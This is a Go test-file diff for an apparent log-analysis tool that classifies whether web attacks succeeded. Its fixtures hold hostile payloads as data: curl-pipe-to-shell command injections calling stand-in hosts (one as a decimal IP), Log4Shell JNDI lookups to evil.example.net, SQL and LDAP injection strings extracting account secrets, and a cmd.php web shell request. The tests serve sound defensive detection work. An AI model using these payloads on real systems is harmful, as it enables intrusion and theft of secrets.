@@ -23,11 +23,14 @@ func newLog(t *testing.T) *logOf {
 	return &logOf{t: t, now: time.Date(2026, 3, 20, 10, 0, 0, 0, time.UTC)}
 }
 
+// timeLayout is how Nano writes times.
+const timeLayout = "2006-01-02 15:04:05.000"
+
 // add writes a record of a client, whose answer took so long; more replaces fields.
 func (l *logOf) add(client, method, uri, answer string, took time.Duration, more map[string]string) {
 	l.t.Helper()
 	l.now = l.now.Add(time.Second)
-	const layout = "2006-01-02 15:04:05.000"
+	const layout = timeLayout
 	r := map[string]string{
 		"BEGIN_TIME": l.now.Format(layout), "END_TIME": l.now.Add(took).Format(layout),
 		"METHOD": method, "URL": uri, "DOMAIN": "shop.internal", "SRC_IP": client, "DST_IP": "10.2.0.9", "RETCODE": "200",
@@ -200,6 +203,57 @@ func TestOutcomeOfManyRecords(t *testing.T) {
 			l.add(attacker, "GET", path("/list?page", "1;curl http://hooks.example.net/x | sh"), page, 0, nil)
 			l.add("10.2.0.9", "GET", "/a", "ok", 0, call)
 		}, "unknown", ""},
+		"called back before its answer": {func(l *logOf) {
+			begin := l.now.Add(2 * time.Second)
+			l.add("10.2.0.9", "GET", "/a", "class", 0, map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7", "BEGIN_TIME": begin.Format(timeLayout), "END_TIME": begin.Format(timeLayout)})
+			l.add(attacker, "GET", path("/list?page", "${jndi:ldap://evil.example.net:1389/a}"), page, time.Second, nil)
+		}, "success", "10.2.0.9 asked evil.example.net while it answered"},
+		"called back, again": {func(l *logOf) {
+			for n := range 3 {
+				l.add(attacker, "GET", path("/list?page", fmt.Sprintf("${jndi:ldap://evil.example.net:1389/%d}", n)), page, 0, nil)
+				l.add("10.2.0.9", "GET", "/a", "class", 0, map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7"})
+			}
+		}, "success", "10.2.0.9 asked evil.example.net, 1s after"},
+		"called back, an address in one number": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "1;curl http://3325256711/x | sh"), page, 0, nil)
+			l.add("10.2.0.9", "GET", "/x", "class", 0, map[string]string{"DOMAIN": "", "DST_IP": "198.51.100.7"})
+		}, "success", "10.2.0.9 asked 198.51.100.7"},
+
+		"broken and completed": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name FROM accounts-- "), "<h1>Error</h1>", 0, map[string]string{"RETCODE": "500"})
+			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<table><tr><td>x</td></tr></table>", 0, nil)
+		}, "success", "broke the statement"},
+		"all that there is": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "x)(uid=nobody))(|(uid=nobody"), "[]", 0, nil)
+			l.add(attacker, "GET", path("/list?page", "*)(uid=*))(|(uid=*"), `[{"name":"ann","mail":"ann@example.com"}]`, 0, nil)
+		}, "success", "more than that to another payload"},
+		"all that anybody gets": {func(l *logOf) {
+			ordinary(l, 2, `[{"name":"ann","mail":"ann@example.com"}]`, 0)
+			l.add(attacker, "GET", path("/list?page", "x)(uid=nobody))(|(uid=nobody"), "[]", 0, nil)
+			l.add(attacker, "GET", path("/list?page", "*)(uid=*))(|(uid=*"), `[{"name":"ann","mail":"ann@example.com"}]`, 0, nil)
+		}, "unknown", ""},
+		"never broken": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name FROM accounts-- "), "<h1>Products</h1>", 0, nil)
+			l.add(attacker, "GET", path("/list?page", "a' UNION SELECT name, secret FROM accounts-- "), "<table><tr><td>x</td></tr></table>", 0, nil)
+		}, "unknown", ""},
+		"longer than ever": {func(l *logOf) {
+			ordinary(l, 3, page, 0)
+			l.add(attacker, "GET", path("/list?page", "a' OR 1=1-- "), page+strings.Repeat("<p>lamp</p>", 20), 0, nil)
+		}, "success", "longer than any"},
+		"longer by its echo": {func(l *logOf) {
+			ordinary(l, 3, page, 0)
+			l.add(attacker, "GET", path("/list?page", "a' OR 1=1-- "), page+"nothing for "+strings.Repeat("a' OR 1=1-- ", 6), 0, nil)
+		}, "unknown", ""},
+		"an open condition that is true": {func(l *logOf) {
+			for n := range 7 {
+				answer := "<p>none</p>"
+				if n == 6 {
+					answer = "<p>lamp</p>"
+				}
+				l.add(attacker, "GET", path("/list?page", fmt.Sprintf("1 AND (SELECT substr(secret,1,1) FROM accounts WHERE id=1)='%c'", 'a'+n)), answer, 0, nil)
+			}
+		}, "success", "this one is true"},
+
 		"upload, fetched": {func(l *logOf) {
 			upload(l, attacker)
 			l.add("10.9.9.8", "GET", "/files/cmd.php?c=1", "ok", 0, nil)
@@ -232,6 +286,17 @@ func TestOutcomeOfManyRecords(t *testing.T) {
 				t.Errorf("the severity is %v", last["severity"])
 			}
 		})
+	}
+}
+
+// The alert of an attack of the same chunk says itself what a later record shows of it.
+func TestProvedByLaterRecord(t *testing.T) {
+	l := newLog(t)
+	upload(l, "10.9.9.9")
+	l.add("10.9.9.8", "GET", "/files/cmd.php", "ok", 0, nil)
+	alerts := l.judged(remembering(t, "mask=off"))
+	if len(alerts) < 2 || alerts[0]["outcome"] != "success" || !strings.Contains(fmt.Sprint(alerts[0]["outcome_evidence"]), "/files/cmd.php was fetched with 200") {
+		t.Errorf("%v", alerts)
 	}
 }
 
